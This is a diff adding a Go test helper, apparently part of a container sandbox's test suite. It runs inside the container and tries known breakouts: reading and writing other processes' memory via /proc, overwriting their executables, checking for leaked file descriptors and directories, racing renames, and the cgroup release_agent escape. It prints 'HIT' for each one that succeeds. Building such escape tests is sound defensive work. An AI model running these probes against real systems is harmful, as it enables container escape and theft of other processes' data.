@@ -1,0 +1,144 @@
+// Command attacker runs in a container of a test and tries what its first argument says until
+// it is killed. It prints a line for each success.
+package main
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"syscall"
+)
+
+func main() {
+	if len(os.Args) < 2 {
+		fmt.Fprintln(os.Stderr, "usage: attacker WHAT [ARGS]")
+		os.Exit(2)
+	}
+	attack, known := map[string]func([]string){
+		"processes": processes, "exchange": exchange, "descriptors": descriptors, "release-agent": releaseAgent,
+	}[os.Args[1]]
+	if !known {
+		fmt.Fprintf(os.Stderr, "attacker: %q is unknown\n", os.Args[1])
+		os.Exit(2)
+	}
+	attack(os.Args[2:])
+}
+
+// planBase is where a process that carries out a plan has it; see runtime/zygote/zygote.h.
+const planBase = 0x1_0000_0000
+
+// processes looks at every other process for as long as it is there: its memory, descriptors,
+// directories and program, as whoever wants to break out of the container does.
+func processes([]string) {
+	var root syscall.Stat_t
+	if err := syscall.Stat("/", &root); err != nil {
+		report("stat: %v", err)
+	}
+	fmt.Println("ready")
+	own := os.Getpid()
+	buf := make([]byte, 64<<10)
+	for {
+		names, _ := filepath.Glob("/proc/[0-9]*")
+		for _, dir := range names {
+			pid, _ := strconv.Atoi(filepath.Base(dir))
+			if pid == own {
+				continue
+			}
+			look(dir, &root, buf)
+		}
+	}
+}
+
+func look(dir string, root *syscall.Stat_t, buf []byte) {
+	if mem, err := os.OpenFile(dir+"/mem", os.O_RDWR, 0); err == nil {
+		// One that executed /proc/self/exe is a starter without a plan: it has zeros there.
+		if n, _ := mem.ReadAt(buf, planBase); len(bytes.Trim(buf[:n], "\x00")) > 0 {
+			report("memory")
+			if i := bytes.Index(buf[:n], []byte("SECRET-OF-ANOTHER")); i >= 0 {
+				report("secret")
+			}
+			// A plan is the business of the one child that has it.
+			_, _ = mem.WriteAt(bytes.Repeat([]byte{0xff}, 1<<10), planBase+(8<<10))
+		}
+		mem.Close()
+	}
+	for _, link := range []string{"/root", "/cwd"} {
+		var st syscall.Stat_t
+		if err := syscall.Stat(dir+link, &st); err == nil && link == "/root" && (st.Dev != root.Dev || st.Ino != root.Ino) {
+			report("root %s is another directory", dir)
+		}
+		if to, err := os.Readlink(dir + link); err == nil && to != "/" {
+			report("%s is %s", link, to)
+		}
+	}
+	if exe, err := os.Readlink(dir + "/exe"); err == nil {
+		if !strings.HasPrefix(exe, "/memfd:") && exe != "/bin/busybox" && exe != "/attacker" {
+			report("program of the host %s", exe)
+		}
+		if f, err := os.OpenFile(dir+"/exe", os.O_WRONLY, 0); err == nil {
+			if _, err := f.WriteAt([]byte{0}, 0); err == nil && strings.HasPrefix(exe, "/memfd:") {
+				report("starter overwritten")
+			}
+			f.Close()
+		}
+	}
+	fds, _ := os.ReadDir(dir + "/fd")
+	for _, fd := range fds {
+		to, err := os.Readlink(dir + "/fd/" + fd.Name())
+		if err != nil || strings.HasPrefix(to, "pipe:") || strings.HasPrefix(to, "socket:") || strings.HasPrefix(to, "/dev/") || strings.HasPrefix(to, "/proc") || strings.HasPrefix(to, "anon_inode:") {
+			continue
+		}
+		report("descriptor %s %s", fd.Name(), to)
+	}
+}
+
+// exchange swaps two names as fast as it can.
+func exchange(args []string) {
+	fmt.Println("ready")
+	a, b := append([]byte(args[0]), 0), append([]byte(args[1]), 0)
+	for {
+		renameExchange(a, b)
+	}
+}
+
+// descriptors lists what this process was given, beyond the standard streams.
+func descriptors([]string) {
+	for fd := range 1024 {
+		var st syscall.Stat_t
+		if syscall.Fstat(fd, &st) != nil {
+			continue
+		}
+		to, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
+		switch {
+		case st.Mode&syscall.S_IFMT == syscall.S_IFDIR:
+			report("a directory, %d %s", fd, to)
+		case fd > 2 && !strings.HasPrefix(to, "anon_inode:"):
+			report("%d %s", fd, to)
+		}
+	}
+}
+
+// releaseAgent looks for a cgroup that it can make the host's kernel execute a program from.
+func releaseAgent([]string) {
+	files, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent")
+	more, _ := filepath.Glob("/sys/fs/cgroup/*/notify_on_release")
+	for _, f := range append(files, more...) {
+		if err := os.WriteFile(f, []byte("/tmp/evil"), 0); err == nil {
+			report("wrote %s", f)
+		}
+	}
+	if syscall.Mount("", "/sys/fs/cgroup", "", syscall.MS_REMOUNT|syscall.MS_BIND, "") == nil {
+		report("remounted")
+	}
+	_ = os.Mkdir("/tmp/cg", 0o755)
+	for _, kind := range []string{"rdma", "memory", "pids"} {
+		if syscall.Mount("cgroup", "/tmp/cg", "cgroup", 0, kind) == nil {
+			report("mounted %s", kind)
+		}
+	}
+}
+
+func report(format string, args ...any) { fmt.Printf("HIT "+format+"\n", args...) }
